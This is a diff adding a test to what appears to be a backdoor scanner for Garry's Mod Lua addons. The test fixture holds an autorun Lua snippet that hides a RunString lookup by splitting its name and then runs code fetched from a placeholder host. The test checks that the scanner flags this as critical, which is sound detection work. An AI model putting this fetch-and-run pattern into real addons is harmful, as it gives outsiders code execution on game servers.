@@ -340,4 +340,16 @@ describe('runstring', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('RunString found by searching every global for its name', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'for k, v in pairs(_G) do',
+        '  if k == "Run" .. "String" then',
+        '    timer.Simple(5, function() http.Fetch("https://x.invalid/p", function(b) v(b) end) end)',
+        '  end',
+        'end',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
 });
